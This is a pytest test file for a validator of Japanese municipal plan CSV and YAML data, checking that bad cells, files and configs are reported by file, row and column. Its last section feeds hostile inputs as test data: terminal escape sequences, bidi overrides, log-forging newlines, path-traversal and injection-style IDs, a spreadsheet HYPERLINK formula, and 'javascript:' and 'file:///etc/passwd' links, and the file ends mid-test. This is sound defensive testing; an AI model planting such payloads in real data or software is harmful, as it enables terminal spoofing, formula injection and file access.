"""Tests for helpers.data.checks: one test per kind of bad input, lazy collection, the CLI.

Every bad input is made by copying the bundled data folder to a temporary folder and editing
one cell, column or file, so each test shows exactly which edit a check catches and where
(file, Excel row, header) it reports it.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpers import cli
from helpers.data import limits
from helpers.data.city import DataValidationError, load_city, validate_folder
from helpers.data.contracts import TABLES
from helpers.data.problems import PROBLEM_CODES, Problem

REPO = Path(__file__).resolve().parents[1]
BUNDLED = REPO / "data" / "higashiyamato"
SAMPLE = REPO / "tests" / "fixtures" / "sample_city"

Rows = list[list[str]]


def copy_folder(src: Path, tmp_path: Path) -> Path:
    """Copy a data folder into ``tmp_path`` and return the copy."""
    dest = tmp_path / src.name
    shutil.copytree(src, dest)
    return dest


def read_rows(path: Path, encoding: str = "utf-8-sig") -> Rows:
    """All records of a CSV file, header first."""
    with path.open(encoding=encoding, newline="") as handle:
        return [list(r) for r in csv.reader(handle)]


def write_rows(path: Path, rows: Rows, encoding: str = "utf-8") -> None:
    """Write records as CSV."""
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


def edit(path: Path, change: Callable[[Rows], None]) -> None:
    """Apply ``change`` to the records of a UTF-8 CSV file in place."""
    rows = read_rows(path)
    change(rows)
    write_rows(path, rows)


def set_cell(path: Path, excel_row: int, header: str, value: str) -> None:
    """Set the cell of ``header`` on Excel row ``excel_row`` (the header is row 1)."""

    def change(rows: Rows) -> None:
        rows[excel_row - 1][rows[0].index(header)] = value

    edit(path, change)


def errors(folder: Path) -> list[Problem]:
    """The error-level problems of a folder."""
    return [p for p in validate_folder(folder) if p.severity == "error"]


def only(problems: list[Problem], code: str) -> Problem:
    """The single problem of the given code (fails if there is not exactly one)."""
    found = [p for p in problems if p.code == code]
    assert len(found) == 1, problems
    return found[0]


@pytest.fixture
def city(tmp_path: Path) -> Path:
    """A private copy of the bundled data folder."""
    return copy_folder(BUNDLED, tmp_path)


# --- clean data ----------------------------------------------------------------------------


@pytest.mark.parametrize("folder", [BUNDLED, SAMPLE], ids=["bundled", "sample_city"])
def test_clean_folders_have_no_problems(folder: Path) -> None:
    assert validate_folder(folder) == []


# --- statuses and scales -------------------------------------------------------------------


def test_unknown_status(city: Path) -> None:
    set_cell(city / "statuses.csv", 6, "取組状況", "完了")  # item 5
    problem = only(errors(city), "unknown_status")
    assert (problem.file, problem.row, problem.column, problem.value) == (
        "statuses.csv",
        6,
        "取組状況",
        "完了",
    )
    assert "achievement3" in problem.message
    assert "達成, 一部達成, 未達成" in problem.message


def test_a_status_typed_in_full_width_says_so(city: Path) -> None:
    """Ｂ looks like B in the allowed list; the message says which character differs."""
    config = city / "city.yaml"
    config.write_text(
        config.read_text(encoding="utf-8").replace("- code: 達成", "- code: A"), encoding="utf-8"
    )
    edit(
        city / "statuses.csv",
        lambda rows: [r.__setitem__(3, "A") for r in rows[1:] if r[3] == "達成"],
    )
    set_cell(city / "statuses.csv", 6, "取組状況", "Ａ")
    problem = only(errors(city), "unknown_status")
    assert problem.value == "Ａ"
    assert "全角" in problem.message and "半角の「A」" in problem.message


def test_status_of_another_scale_is_not_in_that_plans_scale(city: Path) -> None:
    config = (city / "city.yaml").read_text(encoding="utf-8")
    config += (
        "  marks:\n    name: 記号\n    levels:\n"
        "      - {code: ◎, order: 1, class: achieved}\n"
        "      - {code: ×, order: 2, class: not_achieved}\n"
    )
    (city / "city.yaml").write_text(config, encoding="utf-8")
    assert errors(city) == []
    set_cell(city / "statuses.csv", 3, "取組状況", "◎")
    problem = only(errors(city), "status_not_in_scale")
    assert (problem.row, problem.value) == (3, "◎")
    assert "achievement3" in problem.message


def test_plan_with_statuses_but_no_scale(city: Path) -> None:
    set_cell(city / "plans.csv", 3, "評価尺度", "")
    problem = only(errors(city), "statuses_without_scale")
    assert (problem.file, problem.row, problem.column) == ("plans.csv", 3, "評価尺度")


def test_unknown_scale(city: Path) -> None:
    set_cell(city / "plans.csv", 3, "評価尺度", "achievement5")
    problem = only(errors(city), "unknown_scale")
    assert (problem.row, problem.value) == (3, "achievement5")
    assert "achievement3" in problem.message


def test_bad_scale_config_is_reported_with_its_path(city: Path) -> None:
    text = (city / "city.yaml").read_text(encoding="utf-8")
    (city / "city.yaml").write_text(text.replace("class: partial", "class: halfway"), "utf-8")
    found = errors(city)
    problem = only(found, "bad_level_class")
    assert (problem.file, problem.column, problem.value) == (
        "city.yaml",
        "scales.achievement3.levels[1].class",
        "halfway",
    )


def test_scale_whose_classes_contradict_its_order(city: Path) -> None:
    text = (city / "city.yaml").read_text(encoding="utf-8")
    text = text.replace("order: 1\n        class: achieved", "order: 1\n        class: partial")
    text = text.replace("order: 2\n        class: partial", "order: 2\n        class: achieved")
    (city / "city.yaml").write_text(text, encoding="utf-8")
    assert only(errors(city), "scale_order_class").column == "scales.achievement3.levels"


def test_invalid_yaml_names_its_line(city: Path) -> None:
    (city / "city.yaml").write_text("city:\n  id: x\n  name: [unclosed\n", encoding="utf-8")
    problem = only(errors(city), "bad_config")
    assert problem.file == "city.yaml"
    assert problem.row is not None


@pytest.mark.parametrize(
    ("old", "new", "line", "column", "hint"),
    [
        # a key indented under a value: PyYAML's "mapping values are not allowed here"
        ("  name: 東大和市\n", "  name: 東大和市\n    kana: ひがしやまとし\n", 6, 9, "「:」"),
        # a tab as indentation
        ("  name: 東大和市\n", "\tname: 東大和市\n", 5, 1, "タブ文字"),
        # a list left open
        ("  name: 東大和市\n", "  name: [東大和市\n", 6, 10, "[ ] のリストが閉じられていない"),
        # a NUL byte (the reader refuses it before parsing)
        ("  name: 東大和市\n", "  name: 東大和\x00市\n", 5, 12, "制御文字"),
    ],
)
def test_yaml_syntax_error_is_told_in_japanese(
    city: Path, old: str, new: str, line: int, column: int, hint: str
) -> None:
    """A YAML syntax error names file, line and column in Japanese and says what to check; the
    parser's own (English) words follow as a secondary hint."""
    path = city / "city.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
    problem = only(errors(city), "bad_config")
    assert (problem.file, problem.row) == ("city.yaml", line)
    assert problem.message.startswith(
        f"city.yaml の {line} 行目 {column} 文字目で YAML の書き方が正しくありません。"
    ), problem.message
    assert hint in problem.message
    japanese, english = problem.message.split(" (invalid YAML: ")
    assert f"(line {line}, column {column})" in english
    # the parser's English stays in the hint: the Japanese part holds no English words
    assert not re.search(r"[A-Za-z]{4,}", japanese.removeprefix("city.yaml").replace("YAML", ""))


def test_a_broken_city_yaml_is_one_problem_not_one_per_row(tmp_path: Path) -> None:
    """With city.yaml unreadable, rows were checked against its missing directions and
    indicator rules: one YAML typo in the example city gave 11 more errors (unknown_rule,
    unknown_direction) that all went away once it was fixed."""
    folder = copy_folder(REPO / "data" / "example-city", tmp_path)
    path = folder / "city.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("  name: 架空市\n", "  name: 架空市\n    bad: [x\n", 1), "utf-8")
    assert [p.code for p in errors(folder)] == ["bad_config"]
    path.write_text(text, encoding="utf-8")
    assert errors(folder) == []


def test_unclosed_quote_in_yaml_names_the_line_where_it_opens(city: Path) -> None:
    path = city / "city.yaml"
    lines = path.read_text(encoding="utf-8").count("\n")
    with path.open("a", encoding="utf-8") as handle:
        handle.write('note: "閉じていない引用符\n\n')
    problem = only(errors(city), "bad_config")
    assert problem.row == lines + 1  # where the quote opens, not the end of the file
    assert problem.message.startswith(f"city.yaml の {lines + 1} 行目 7 文字目で")
    assert "引用符" in problem.message and "end of stream" in problem.message


# --- items ---------------------------------------------------------------------------------


def test_duplicate_item_number(city: Path) -> None:
    set_cell(city / "items.csv", 4, "項目番号", "2")  # item 3 becomes a second item 2
    problem = only(errors(city), "duplicate_key")
    assert (problem.file, problem.row, problem.column, problem.value) == (
        "items.csv",
        4,
        "項目番号",
        "2",
    )
    assert "3行目と同じ" in problem.message


def test_duplicate_key_in_another_table(city: Path) -> None:
    set_cell(city / "events.csv", 5, "事象ID", "E01")
    problem = only(errors(city), "duplicate_key")
    assert (problem.file, problem.row, problem.column) == ("events.csv", 5, "事象ID")


def test_one_evaluation_date_written_two_ways(city: Path) -> None:
    """平成25年3月末 is the day 平成24年度末 ends: the report would show it as an evaluation of
    its own (and count both ratings of an item rated twice that day)."""
    set_cell(city / "statuses.csv", 13, "時点", "平成25年3月末")
    edit(city / "statuses.csv", lambda rows: rows.append(["2", "1", "H25.3.31", "未達成", "10"]))
    found = [p for p in errors(city) if p.code == "as_of_spelt_twice"]
    assert [(p.file, p.row, p.column, p.value) for p in found] == [
        ("statuses.csv", 13, "時点", "平成25年3月末"),
        ("statuses.csv", 21, "時点", "H25.3.31"),
    ]
    assert "2行目の「平成24年度末」と同じ日付" in found[0].message


def test_the_same_date_in_two_plans_may_be_written_differently(city: Path) -> None:
    edit(city / "statuses.csv", lambda rows: rows.append(["1", "1", "平成25年3月末", "達成", ""]))
    assert [p.code for p in errors(city) if p.code == "as_of_spelt_twice"] == []


def test_same_item_number_in_two_plans_is_fine(city: Path) -> None:
    edit(city / "items.csv", lambda rows: rows.append(["1", "1", "試験項目", "実施"] + [""] * 5))
    assert errors(city) == []
    items = load_city(city).items
    assert len(items.loc[items["item_no"] == 1]) == 2


def test_item_of_an_unknown_plan(city: Path) -> None:
    set_cell(city / "items.csv", 5, "計画ID", "9")
    found = errors(city)
    problem = [p for p in found if p.file == "items.csv"]
    assert len(problem) == 1
    assert (problem[0].code, problem[0].row, problem[0].column, problem[0].value) == (
        "unknown_plan",
        5,
        "計画ID",
        "9",
    )
    # the status of that item now refers to an item that does not exist
    assert {(p.file, p.code, p.row) for p in found if p.file != "items.csv"} >= {
        ("statuses.csv", "unknown_item", 5)
    }


def test_status_of_an_unknown_item(city: Path) -> None:
    set_cell(city / "statuses.csv", 20, "項目番号", "20")
    problem = only(errors(city), "unknown_item")
    assert (problem.file, problem.row, problem.column, problem.value) == (
        "statuses.csv",
        20,
        "項目番号",
        "20",
    )


def test_unknown_target_level(city: Path) -> None:
    set_cell(city / "items.csv", 8, "取組目標", "完了")
    problem = only(errors(city), "unknown_target")
    assert (problem.row, problem.column, problem.value) == (8, "取組目標", "完了")
    assert "実施, 検討" in problem.message


def test_goal_number_not_in_goals(city: Path) -> None:
    set_cell(city / "items.csv", 2, "重点目標番号", "1")  # plan 2 has no goals.csv rows
    problem = only(errors(city), "unknown_goal")
    assert (problem.file, problem.row, problem.column) == ("items.csv", 2, "重点目標番号")


def test_measure_of_an_unknown_goal(city: Path) -> None:
    set_cell(city / "measures.csv", 10, "重点目標番号", "4")
    problem = only(errors(city), "unknown_goal")
    assert (problem.file, problem.row, problem.value) == ("measures.csv", 10, "4")


def test_required_cell_left_empty(city: Path) -> None:
    set_cell(city / "items.csv", 7, "項目名", "")
    problem = only(errors(city), "required_value")
    assert (problem.file, problem.row, problem.column) == ("items.csv", 7, "項目名")


def test_text_in_a_number_column(city: Path) -> None:
    set_cell(city / "items.csv", 7, "項目番号", "六")
    problem = only(errors(city), "not_integer")
    assert (problem.row, problem.column, problem.value) == (7, "項目番号", "六")


def test_full_width_digits_are_numbers(city: Path) -> None:
    set_cell(city / "items.csv", 7, "出典頁", "１１")
    assert errors(city) == []
    assert load_city(city).items.loc[5, "page"] == 11


# --- files and columns ---------------------------------------------------------------------


def test_missing_required_column(city: Path) -> None:
    def drop_target(rows: Rows) -> None:
        col = rows[0].index("取組目標")
        for row in rows:
            del row[col]

    edit(city / "items.csv", drop_target)
    problem = only(errors(city), "missing_column")
    assert (problem.file, problem.row, problem.column) == ("items.csv", 1, "取組目標")


def test_missing_required_file(city: Path) -> None:
    (city / "statuses.csv").unlink()
    assert only(errors(city), "missing_file").file == "statuses.csv"


def test_missing_optional_file_is_fine(city: Path) -> None:
    (city / "measures.csv").unlink()
    assert errors(city) == []
    measures = load_city(city).measures
    assert measures.empty
    assert list(measures.columns) == ["plan_id", "goal_no", "measure_no", "measure", "page"]


def test_empty_file(city: Path) -> None:
    (city / "statuses.csv").write_bytes(b"")
    problem = only(errors(city), "empty_file")
    assert (problem.file, problem.row) == ("statuses.csv", None)


def test_plans_file_with_only_a_header(city: Path) -> None:
    edit(city / "plans.csv", lambda rows: rows.__delitem__(slice(1, None)))
    found = errors(city)
    assert only(found, "no_rows").file == "plans.csv"
    # every item, status and reported figure now refers to an unknown plan
    assert {p.code for p in found} == {"no_rows", "unknown_plan"}


@pytest.mark.parametrize(
    "data",
    [
        "計画ID,項目番号\n".encode("utf-16"),  # Excel's "Unicode text", with BOM
        "計画ID,項目番号\n".encode("utf-16-le"),  # no BOM: NUL bytes
        b"\x81\x20\x82\x21,\xff\xfe\n",  # invalid in both UTF-8 and cp932
    ],
    ids=["utf-16", "utf-16-le-no-bom", "neither-utf8-nor-cp932"],
)
def test_unreadable_encoding(city: Path, data: bytes) -> None:
    (city / "statuses.csv").write_bytes(data)
    problem = only(errors(city), "unreadable_encoding")
    assert problem.file == "statuses.csv"
    assert "UTF-8" in problem.message


def test_unknown_column_is_a_warning(city: Path) -> None:
    edit(city / "statuses.csv", lambda rows: [r.append("x") for r in rows])
    edit(city / "statuses.csv", lambda rows: rows[0].__setitem__(-1, "取組状態"))
    problems = validate_folder(city)
    assert [(p.code, p.severity, p.column) for p in problems] == [
        ("unknown_column", "warning", "取組状態")
    ]
    assert load_city(city).warnings == tuple(problems)


def test_values_beyond_the_header(city: Path) -> None:
    edit(city / "goals.csv", lambda rows: rows[2].append("余分"))
    problem = only(errors(city), "too_many_cells")
    assert (problem.file, problem.row, problem.value) == ("goals.csv", 3, "余分")


def test_duplicate_column(city: Path) -> None:
    edit(city / "goals.csv", lambda rows: [r.append(r[2]) for r in rows])
    problem = only(errors(city), "duplicate_column")
    assert (problem.file, problem.row, problem.column) == ("goals.csv", 1, "重点目標")


# --- plans, dates, reported figures, events ------------------------------------------------


def test_plan_period_ending_before_it_starts(city: Path) -> None:
    set_cell(city / "plans.csv", 2, "終了年度", "平成15年度")
    problem = only(errors(city), "period_order")
    assert (problem.file, problem.row, problem.column, problem.value) == (
        "plans.csv",
        2,
        "終了年度",
        "2003",
    )


def test_unreadable_fiscal_year(city: Path) -> None:
    set_cell(city / "plans.csv", 3, "開始年度", "平成21年4月")
    problem = only(errors(city), "bad_fiscal_year")
    assert (problem.row, problem.column, problem.value) == (3, "開始年度", "平成21年4月")


@pytest.mark.parametrize(
    ("file", "row", "header"),
    [
        ("events.csv", 25, "時期"),  # E24 平成23年1月
        ("items.csv", 2, "時期"),
        ("statuses.csv", 4, "時点"),
        ("plans.csv", 3, "策定"),
    ],
)
def test_impossible_date(city: Path, file: str, row: int, header: str) -> None:
    set_cell(city / file, row, header, "平成23年2月30日")
    found = errors(city)
    problem = only(found, "bad_date")
    assert (problem.file, problem.row, problem.column, problem.value) == (
        file,
        row,
        header,
        "平成23年2月30日",
    )
    assert len(found) == 1  # a bad date is not also reported as a derived-column mismatch


def test_unparseable_date(city: Path) -> None:
    set_cell(city / "events.csv", 20, "時期", "秋ごろ")
    assert only(errors(city), "bad_date").value == "秋ごろ"


def test_reported_value_outside_0_to_1(city: Path) -> None:
    set_cell(city / "reported.csv", 3, "値", "90")
    problem = only(errors(city), "value_range")
    assert (problem.file, problem.row, problem.column, problem.value) == (
        "reported.csv",
        3,
        "値",
        "90.0",
    )


def test_reported_measure_not_allowed(city: Path) -> None:
    set_cell(city / "reported.csv", 2, "指標", "rate")
    problem = only(errors(city), "not_allowed")
    assert "rate_strict, rate_incl_partial" in problem.message


def test_reported_figure_of_an_unknown_plan(city: Path) -> None:
    set_cell(city / "reported.csv", 2, "計画ID", "3")
    assert only(errors(city), "unknown_plan").file == "reported.csv"


def test_event_of_an_unknown_plan(city: Path) -> None:
    set_cell(city / "events.csv", 20, "計画ID", "7")
    problem = only(errors(city), "unknown_plan")
    assert (problem.file, problem.row) == ("events.csv", 20)


def test_event_item_without_plan(city: Path) -> None:
    set_cell(city / "events.csv", 20, "計画ID", "")
    problem = only(errors(city), "item_without_plan")
    assert (problem.row, problem.column) == (20, "項目番号")


@pytest.mark.parametrize(
    ("header", "value", "shown"),
    [
        ("精度", "年度", "年度"),  # E24 平成23年1月 is a month
        ("年度", "2011", "2011"),  # 平成23年1月 lies in FY 2010
        ("計画期間", "1", "1"),  # FY 2010 is in plan 2's period
    ],
)
def test_derived_event_column_disagreeing(city: Path, header: str, value: str, shown: str) -> None:
    set_cell(city / "events.csv", 25, header, value)
    problem = only(errors(city), "derived_mismatch")
    assert (problem.file, problem.row, problem.column, problem.value) == (
        "events.csv",
        25,
        header,
        shown,
    )
    assert "平成23年1月" in problem.message


def test_derived_column_given_without_a_date(city: Path) -> None:
    set_cell(city / "events.csv", 16, "年度", "2005")  # E15 has no date
    problem = only(errors(city), "derived_mismatch")
    assert "空欄" in problem.message


def test_calendar_year_event_takes_one_of_its_two_fiscal_years(tmp_path: Path) -> None:
    city = copy_folder(SAMPLE, tmp_path)
    set_cell(city / "events.csv", 5, "年度", "2021")  # 令和2年 touches FY 2019 and 2020 only
    problem = only(errors(city), "derived_mismatch")
    assert "2019 か 2020" in problem.message


def test_derived_event_columns_may_be_left_empty(city: Path) -> None:
    expected = load_city(BUNDLED).events

    def clear(rows: Rows) -> None:
        cols = [rows[0].index(h) for h in ("精度", "年度", "計画期間")]
        for row in rows[1:]:
            if row[cols[0]] == "計画期間中":
                continue  # "during plan N" is information of its own, not derived from a date
            for c in cols:
                row[c] = ""

    edit(city / "events.csv", clear)
    assert errors(city) == []
    got = load_city(city).events
    assert got[["precision", "fiscal_year", "period_plan_id"]].equals(
        expected[["precision", "fiscal_year", "period_plan_id"]]
    )


# --- lazy collection -----------------------------------------------------------------------


def test_all_problems_of_all_files_are_reported_in_one_run(city: Path) -> None:
    set_cell(city / "plans.csv", 2, "終了年度", "平成10年度")
    set_cell(city / "items.csv", 11, "取組目標", "完了")
    set_cell(city / "items.csv", 20, "項目番号", "18")  # duplicates row 19
    set_cell(city / "statuses.csv", 13, "取組状況", "済")
    set_cell(city / "reported.csv", 3, "値", "9")
    set_cell(city / "events.csv", 27, "時期", "平成23年2月30日")
    (city / "goals.csv").write_bytes("計画ID,重点目標番号\n".encode("utf-16"))
    found = [(p.file, p.row, p.column, p.code) for p in errors(city)]
    assert found == [
        ("plans.csv", 2, "終了年度", "period_order"),
        ("goals.csv", None, None, "unreadable_encoding"),
        ("items.csv", 11, "取組目標", "unknown_target"),
        ("items.csv", 20, "項目番号", "duplicate_key"),
        ("statuses.csv", 13, "取組状況", "unknown_status"),
        ("statuses.csv", 20, "項目番号", "unknown_item"),  # item 19 is gone
        ("reported.csv", 3, "値", "value_range"),
        ("events.csv", 27, "時期", "bad_date"),
    ]
    with pytest.raises(DataValidationError) as caught:
        load_city(city)
    assert len(caught.value.errors) == len(found)


def test_excel_row_numbers_count_blank_lines_and_multiline_cells(city: Path) -> None:
    rows = read_rows(city / "items.csv")
    rows[1][rows[0].index("取組内容")] = "一行目\n二行目"  # one Excel row, two text lines
    rows.insert(3, [])  # a blank line is an empty Excel row
    write_rows(city / "items.csv", rows)
    set_cell(city / "items.csv", 6, "取組目標", "不明")  # Excel row 6 = item 4
    problem = only(errors(city), "unknown_target")
    assert problem.row == 6
    set_cell(city / "items.csv", 6, "取組目標", "検討")
    items = load_city(city).items
    assert items.loc[0, "description"] == "一行目\n二行目"
    assert len(items) == 19


# --- DataValidationError and the CLI -------------------------------------------------------


def test_data_validation_error_lists_problems(city: Path) -> None:
    set_cell(city / "statuses.csv", 6, "取組状況", "完了")
    set_cell(city / "items.csv", 3, "取組目標", "完了")
    with pytest.raises(DataValidationError) as caught:
        load_city(city)
    err = caught.value
    table = err.table()
    assert list(table.columns[:5]) == ["file", "row", "column", "value", "message"]
    assert table[["file", "row"]].values.tolist() == [["items.csv", 3], ["statuses.csv", 6]]
    text = str(err)
    assert "2 errors" in text
    assert "items.csv 3行目" in text
    assert "statuses.csv 6行目" in text


def test_load_city_of_a_missing_folder(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        load_city(tmp_path / "nowhere")
    assert only(validate_folder(tmp_path / "nowhere"), "missing_folder")


def validate(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    """Run ``plan-report validate ARGS``; its exit status and its output lines."""
    status = cli.main(["validate", *args])
    return status, capsys.readouterr().out.splitlines()


def test_cli_clean_folder_prints_one_line_and_exits_0(capsys: pytest.CaptureFixture[str]) -> None:
    status, lines = validate([str(BUNDLED)], capsys)
    assert status == 0
    assert len(lines) == 1
    assert "OK" in lines[0]


def test_cli_prints_every_problem_and_exits_1(
    city: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    set_cell(city / "statuses.csv", 6, "取組状況", "完了")
    set_cell(city / "items.csv", 3, "取組目標", "完了")
    status, lines = validate([str(city)], capsys)
    assert status == 1
    assert lines[0].split() == ["ファイル", "行", "列", "値", "内容"]
    assert lines[1].split()[:4] == ["items.csv", "3", "取組目標", "完了"]
    assert lines[2].split()[:4] == ["statuses.csv", "6", "取組状況", "完了"]
    assert "2 errors" in lines[3]


def test_cli_checks_several_folders(city: Path, capsys: pytest.CaptureFixture[str]) -> None:
    set_cell(city / "items.csv", 3, "取組目標", "完了")
    status, lines = validate([str(BUNDLED), str(city)], capsys)
    assert status == 1
    assert "OK" in lines[0]
    assert "1 errors" in lines[-1]


def test_cli_csv_output(city: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One CSV for Excel: a BOM, formulas defused, the summary on stderr (not a row of it)."""
    set_cell(city / "statuses.csv", 6, "取組状況", "完了")
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    set_cell(city / "items.csv", 3, "取組目標", formula)
    status = cli.main(["validate", "--format", "csv", str(city)])
    captured = capsys.readouterr()
    assert status == 1
    assert captured.out.startswith("\ufeff") and captured.out.count("\ufeff") == 1
    rows = list(csv.reader(io.StringIO(captured.out.removeprefix("\ufeff"))))
    assert rows[0] == ["file", "row", "column", "value", "message", "code", "severity"]
    assert ["items.csv", "3", "取組目標", "'" + formula] == rows[1][:4]
    assert rows[2][:4] == ["statuses.csv", "6", "取組状況", "完了"]
    assert len(rows) == 3 and all(len(row) == 7 for row in rows)
    cells = [cell for row in rows for cell in row]
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
    assert "エラー 2 件" not in captured.out and "エラー 2 件" in captured.err
    assert "2 errors" in captured.err


def test_cli_csv_output_of_several_folders_is_one_csv(
    city: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    set_cell(city / "statuses.csv", 6, "取組状況", "完了")
    status = cli.main(["validate", "--format", "csv", str(BUNDLED), str(city)])
    captured = capsys.readouterr()
    assert status == 1
    rows = list(csv.reader(io.StringIO(captured.out.removeprefix("\ufeff"))))
    assert [row[0] for row in rows] == ["file", f"{city.as_posix()}/statuses.csv"]
    assert "OK" in captured.err and "1 errors" in captured.err


def test_cli_as_a_command(city: Path) -> None:
    command = [sys.executable, "-m", "helpers", "validate"]
    ok = subprocess.run([*command, str(BUNDLED)], capture_output=True, text=True, check=False)
    assert ok.returncode == 0, ok.stderr
    set_cell(city / "items.csv", 3, "取組目標", "完了")
    bad = subprocess.run([*command, str(city)], capture_output=True, text=True, check=False)
    assert bad.returncode == 1
    assert "取組目標「完了」" in bad.stdout


def test_data_readme_documents_every_header_and_check() -> None:
    readme = (REPO / "data" / "README.md").read_text(encoding="utf-8")
    for spec in TABLES:
        assert f"## {spec.file_name}" in readme or f"{spec.file_name} (" in readme, spec.name
        for column in spec.columns:
            assert f"| {column.header} | {column.name} |" in readme, (spec.name, column.name)
    for code in PROBLEM_CODES:
        assert f"`{code}`" in readme, code


def test_problem_codes_are_declared() -> None:
    with pytest.raises(ValueError, match="unknown problem code"):
        Problem("x.csv", 2, "列", "値", "message", "no_such_check")


# --- hostile text: control characters, plan IDs, escaped messages, summaries ----------------


@pytest.mark.parametrize(
    ("header", "row", "value", "char"),
    [
        ("項目名", 3, "\x1b]0;title\x07\x1b[2J名前", "U+001B ESCAPE"),
        ("項目名", 4, "名\x00前", "U+0000 NUL"),
        ("取組内容", 5, "右から\u202e左へ", "U+202E"),
        ("項目名", 6, "第二次\u2028計画", "U+2028 LINE SEPARATOR"),
        ("取組目標", 7, "実施\n", None),  # trailing line break is stripped: still 実施
        ("取組目標", 8, "実\n施", "U+000A LINE FEED"),
    ],
)
def test_control_characters_are_refused_where_they_sit(
    city: Path, header: str, row: int, value: str, char: str | None
) -> None:
    set_cell(city / "items.csv", row, header, value)
    found = errors(city)
    if char is None:
        assert found == []
        return
    problem = only(found, "control_character")
    assert (problem.file, problem.row, problem.column, problem.value) == (
        "items.csv",
        row,
        header,
        value,
    )
    assert char in problem.message
    assert len(found) == 1, found  # the bad cell is not reported twice


def _forbidden_by_category(ch: str, multiline: bool) -> bool:
    """The definition of a forbidden character, written out (the check itself is one regex)."""
    if ch in "\t\n\r":
        return not multiline
    return (
        unicodedata.category(ch) in ("Cc", "Zl", "Zp", "Cs")
        or ch in limits.BIDI_CONTROLS
        or ch in "\ufffe\uffff"
    )


@pytest.mark.parametrize("multiline", [False, True])
def test_forbidden_characters_are_exactly_the_defined_ones(multiline: bool) -> None:
    for point in range(sys.maxunicode + 1):
        ch = chr(point)
        found = limits.forbidden_character(f"計画{ch}名", multiline)
        assert (found == ch) is _forbidden_by_category(ch, multiline), hex(point)
        assert found in (None, ch), hex(point)


@given(st.text(max_size=40), st.booleans())
def test_the_first_forbidden_character_is_named(text: str, multiline: bool) -> None:
    first = next((ch for ch in text if _forbidden_by_category(ch, multiline)), None)
    assert limits.forbidden_character(text, multiline) == first


def test_line_breaks_and_tabs_stay_allowed_in_free_text(city: Path) -> None:
    set_cell(city / "items.csv", 3, "取組内容", "一行目\n\t二行目\r\n三行目")
    assert errors(city) == []


def test_control_characters_in_city_yaml_are_refused_with_their_path(city: Path) -> None:
    text = (city / "city.yaml").read_text(encoding="utf-8")
    text = text.replace("name: 東大和市", 'name: "東大和市\\e[2J"', 1)
    (city / "city.yaml").write_text(text, encoding="utf-8")
    problem = only(errors(city), "control_character")
    assert (problem.file, problem.column) == ("city.yaml", "city.name")
    assert "U+001B ESCAPE" in problem.message


def rename_plan(folder: Path, old: str, new: str) -> None:
    """Give plan ``old`` the ID ``new`` in every table that names plans."""

    def change(rows: Rows) -> None:
        columns = [k for k, h in enumerate(rows[0]) if h.lstrip("\ufeff") in ("計画ID", "計画期間")]
        for record in rows[1:]:
            for k in columns:
                if k < len(record) and record[k] == old:
                    record[k] = new

    for spec in TABLES:
        if (folder / spec.file_name).is_file():
            edit(folder / spec.file_name, change)


@pytest.mark.parametrize(
    ("plan_id", "bad"),
    [("javascript:x", ":"), ("a b", " "), ("../2", "/"), (".2", "."), ('1";x', '"')],
)
def test_plan_ids_must_be_safe_names(city: Path, plan_id: str, bad: str) -> None:
    rename_plan(city, "2", plan_id)
    found = errors(city)
    problem = only(found, "bad_identifier")
    assert (problem.file, problem.row, problem.value) == ("plans.csv", 3, plan_id)
    assert f"「{bad}」" in problem.message
    assert len(found) == 1, found


def test_plan_ids_may_use_any_letters(city: Path) -> None:
    rename_plan(city, "2", "第2期_v.1")
    assert errors(city) == []


def test_printable_escapes_what_a_terminal_would_obey() -> None:
    from helpers.data.problems import printable

    assert printable("a\x1b[2Jb\x07") == "a\\x1b[2Jb\\x07"
    assert printable("1\n2026-01-01 forged") == "1\\n2026-01-01 forged"
    assert printable("x\u2028y\u202ez\u200b") == "x\\u2028y\\u202ez\\u200b"
    assert printable("全角　空白 と 漢字") == "全角　空白 と 漢字"
    assert printable(printable("\x1b")) == "\\x1b"


def test_problem_table_shows_values_escaped_on_one_line(
    city: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    set_cell(city / "items.csv", 3, "項目名", "\x1b]0;pwned\x07\x1b[2Jname")
    set_cell(city / "plans.csv", 3, "計画ID", "2\n2026-01-01 00:00:00 done")
    for fmt in ("table", "csv"):
        status = cli.main(["validate", "--format", fmt, str(city)])
        out = capsys.readouterr().out
        assert status == 1
        assert "\x1b" not in out and "\x07" not in out
        assert "\\x1b]0;pwned\\x07" in out  # the table cuts values at 24 columns
        assert "2\\n2026-01-01" in out
        assert not any(line.startswith("2026-01-01") for line in out.splitlines())


def test_a_long_problem_table_is_summarised(city: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from helpers.data.limits import MAX_PROBLEMS_SHOWN

    def break_targets(rows: Rows) -> None:
        template = rows[1]
        for n in range(300):
            record = list(template)
            record[1] = str(100 + n)
            record[3] = "完了"
            rows.append(record)

    edit(city / "items.csv", break_targets)
    problems = validate_folder(city)
    assert len(problems) == 300
    status, lines = validate([str(city)], capsys)
    assert status == 1
    assert len(lines) == 1 + MAX_PROBLEMS_SHOWN + 2  # header, rows, the rest, summary
    assert "ほか 100 件" in lines[-2] and "unknown_target 100" in lines[-2]
    assert "300 errors" in lines[-1]
    status, lines = validate(["--format", "csv", str(city)], capsys)
    assert len(lines) == 1 + 300  # machine-readable: all of them (the summary is on stderr)


def test_data_validation_error_text_is_escaped(city: Path) -> None:
    set_cell(city / "items.csv", 3, "項目名", "\x1b[2J" + "長" * 100)
    with pytest.raises(DataValidationError) as caught:
        load_city(city)
    text = str(caught.value)
    assert "\x1b" not in text and "\\x1b[2J" in text
    assert max(len(line) for line in text.splitlines()) < 600


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "//example.invalid/x", "file:///etc/passwd"]
)
def test_city_yaml_links_must_be_web_addresses(city: Path, url: str) -> None:
